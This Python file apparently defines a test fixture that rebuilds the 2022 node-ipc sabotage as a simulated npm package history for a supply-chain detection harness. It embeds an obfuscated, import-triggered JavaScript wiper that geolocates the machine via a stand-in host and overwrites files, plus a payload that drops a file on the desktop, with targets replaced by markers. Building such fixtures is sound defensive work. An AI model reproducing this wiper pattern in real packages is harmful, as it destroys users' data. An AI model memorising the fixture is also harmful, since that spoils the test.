"""node-ipc 10.1.1 (2022-03-07): its owner protests; imported in two countries it overwrites files, later ones leave a letter.

By the record: 10.1.1 and 10.1.2, less than a day, add a file in which all strings are base64: it asks a service where the machine is,
and overwrites what it finds. 11.0.0 and, later, 9.2.2 take a new package by the same owner instead, peacenotwar, which writes a text
onto the desktop. All on import. In this rebuild the folders do not exist, and no country has that name.
"""

import base64

from gauntlet import shapes
from gauntlet.incident import Advisory, Files, Incident, Package, Release, utc
from pratique.core.names import Ecosystem


def _hidden(text: str) -> str:
    return f'Buffer.from("{base64.b64encode(text.encode()).decode()}", "base64").toString("utf8")'


_WIPER = f"""import u from "path";
import a from "fs";
import o from "https";
setTimeout(function () {{
  const t = Math.round(Math.random() * 4);
  if (t > 1) {{ return; }}
  const n = {_hidden("https://where.invalid/ipgeo?apiKey=marker")};
  o.get(n, function (t) {{
    t.on("data", function (t) {{
      const n = {_hidden("/nonexistent-marker/a/")};
      const o = {_hidden("/nonexistent-marker/b/")};
      const r = {_hidden("/nonexistent-marker/c/")};
      const f = {_hidden("/nonexistent-marker/")};
      const c = {_hidden("country_name")};
      const e = {_hidden("markerland")};
      const i = {_hidden("markeria")};
      try {{
        const s = JSON.parse(t.toString("utf8"));
        const u = s[c].toLowerCase();
        const a = u.includes(e) || u.includes(i);
        if (a) {{ h(n); h(o); h(r); h(f); }}
      }} catch (t) {{}}
    }});
  }});
}}, Math.ceil(Math.random() * 1e3));
async function h(n = "", o = "") {{
  if (!a.existsSync(n)) {{ return; }}
  let r = [];
  try {{ r = a.readdirSync(n); }} catch (t) {{}}
  const f = [];
  const c = {_hidden("marker")};
  for (var e = 0; e < r.length; e++) {{
    const i = u.join(n, r[e]);
    let t = null;
    try {{ t = a.lstatSync(i); }} catch (t) {{ continue; }}
    if (t.isDirectory()) {{
      const s = h(i, o);
      s.length > 0 ? f.push(...s) : null;
    }} else if (i.indexOf(o) >= 0) {{
      try {{ a.writeFile(i, c, function () {{}}); }} catch (t) {{}}
    }}
  }}
  return f;
}}
const ssl = true;
export {{ ssl as default, ssl }};
"""
_SOCKET = """import net from 'net';
import fs from 'fs';

export default class Server {
  constructor(path, config, log) {
    Object.assign(this, { path, config, log, handlers: new Map() });
  }
  on(type, handler) { this.handlers.set(type, handler); }
  start() {
    if (fs.existsSync(this.path)) fs.unlinkSync(this.path);
    this.server = net.createServer((socket) => this.serve(socket));
    this.server.listen(this.path);
  }
  serve(socket) {
    let left = '';
    socket.setEncoding(this.config.encoding);
    socket.on('data', (data) => {
      const parts = (left + data).split(this.config.delimiter);
      left = parts.pop();
      for (const part of parts) {
        const { type, data } = JSON.parse(part);
        this.handlers.get(type)?.(data, socket);
      }
    });
  }
}
"""
_INDEX = """import Defaults from './entities/Defaults.js';
import Server from './dao/socketServer.js';

class IPC {
  constructor() { this.config = new Defaults(); this.log = console.log; }
  serve(path, callback) {
    this.server = new Server(path || this.config.socketRoot + this.config.id, this.config, this.log);
    callback?.();
  }
}
export { IPC as default, IPC };
export const ipc = new IPC();
"""
_DEFAULTS = """import os from 'os';

export default class Defaults {
  appspace = 'app.';
  socketRoot = '/tmp/';
  id = os.hostname();
  encoding = 'utf8';
  delimiter = '\\f';
  retry = 500;
  maxConnections = 100;
}
"""
_CLEAN: Files = {
    "node-ipc.js": _INDEX,
    "dao/socketServer.js": _SOCKET,
    "entities/Defaults.js": _DEFAULTS,
    "README.md": "# node-ipc\n\nMessages between processes, by sockets.\n",
}
_BAD: Files = {
    **_CLEAN,
    "dao/socketServer.js": "import './ssl-geospec.js';\n" + _SOCKET,
    "dao/ssl-geospec.js": shapes.squeezed(_WIPER) + "\n",
}
_DOOR: Files = {**_CLEAN, "node-ipc.js": "import 'peacenotwar';\n" + _INDEX}
_LETTER = """import { homedir } from 'os';
import { existsSync, writeFileSync } from 'fs';

const text = 'marker: a letter to whoever reads it';
function deliver(folder) {
  const file = `${folder}/nonexistent-marker/MARKER.txt`;
  if (!existsSync(file)) {
    try { writeFileSync(file, text); } catch (error) {}
  }
}
deliver(`${homedir()}/Desktop`);
deliver(`${homedir()}/OneDrive/Desktop`);
export default text;
"""


def _release(version: str, at: str, files: Files = _CLEAN, needs: str = "") -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher="riaevangelist",
        maintainers=("riaevangelist",),
        files=files,
        depends={"peacenotwar": needs} if needs else {},
        more={"type": "module", "main": "node-ipc.js"},
    )


def _letter(version: str, at: str) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher="riaevangelist",
        maintainers=("riaevangelist",),
        files={"index.js": _LETTER},
        more={"type": "module", "main": "index.js"},
    )


_FIRST = _release("10.1.1", "2022-03-07T12:00:00Z", _BAD)
_GUILTY = {"node-ipc": ("10.1.1", "10.1.2"), "peacenotwar": ("9.1.3", "9.1.5")}

INCIDENT = Incident(
    id="node-ipc-2022",
    title=(
        "the owner of node-ipc sabotaged his own package: in two countries, the import overwrote files; later "
        "releases wrote a letter to the desktop"
    ),
    copy=(
        "our copy of node-ipc has the same code with base64 strings, but its folders and countries do not exist"
    ),
    ecosystem=Ecosystem.NPM,
    at=_FIRST.at,
    packages=(
        Package(
            name="node-ipc",
            releases=(
                _release("9.2.0", "2021-06-01T00:00:00Z"),
                _release("9.2.1", "2021-06-09T00:00:00Z"),
                _release("10.0.2", "2021-07-15T00:00:00Z"),
                _release("10.1.0", "2021-09-20T00:00:00Z"),
                _FIRST,
                _release("10.1.2", "2022-03-07T20:00:00Z", _BAD),
                _release("10.1.3", "2022-03-08T10:00:00Z"),
                _release("11.0.0", "2022-03-08T16:00:00Z", _DOOR, "^9.1.3"),
                _release("9.2.2", "2022-03-15T12:00:00Z", _DOOR, "^9.1.5"),
            ),
        ),
        Package(
            name="peacenotwar",
            releases=(_letter("9.1.3", "2022-03-08T12:00:00Z"), _letter("9.1.5", "2022-03-14T12:00:00Z")),
        ),
    ),
    asks={"node-ipc": "^10.1.0"},
    good={"node-ipc": "10.1.0"},
    bad={"node-ipc": ("10.1.1", "10.1.2")},
    guilty=_GUILTY,
    doors={"node-ipc": ("11.0.0", "9.2.2")},
    gone_at=utc("2022-03-08T10:00:00Z"),
    advisory=Advisory(
        id="GHSA-97m3-w2cp-4xx6",
        at=utc("2022-03-16T00:00:00Z"),
        about={"node-ipc": ("10.1.1", "10.1.2")},
    ),
    invented="all publish hours, days of earlier releases, the versions of peacenotwar and the day of the advisory",
)
